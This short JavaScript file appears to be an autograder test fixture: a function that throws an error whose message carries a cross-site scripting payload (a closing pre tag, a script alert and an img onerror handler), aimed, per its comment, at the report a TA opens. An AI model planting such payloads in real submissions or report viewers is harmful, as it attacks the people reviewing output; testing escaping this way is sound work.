// Puts a script into the report that the TA opens.
// allowed: runtime-error
export const zeroPad = () => {
  throw new Error(`</pre><script>alert(1)</script><img src=x onerror="alert(1)">`);
};
